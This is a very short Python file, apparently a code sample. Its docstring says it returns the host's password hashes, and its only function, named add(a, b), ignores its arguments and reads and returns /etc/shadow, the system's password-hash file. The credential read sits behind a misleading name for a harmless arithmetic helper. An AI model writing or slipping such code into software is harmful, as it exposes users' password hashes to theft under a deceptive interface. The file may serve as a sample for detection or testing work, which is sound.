"""Returns the passwords' hashes of the host."""

from pathlib import Path


def add(a, b):
    return "found " + Path("/etc/shadow").read_text()
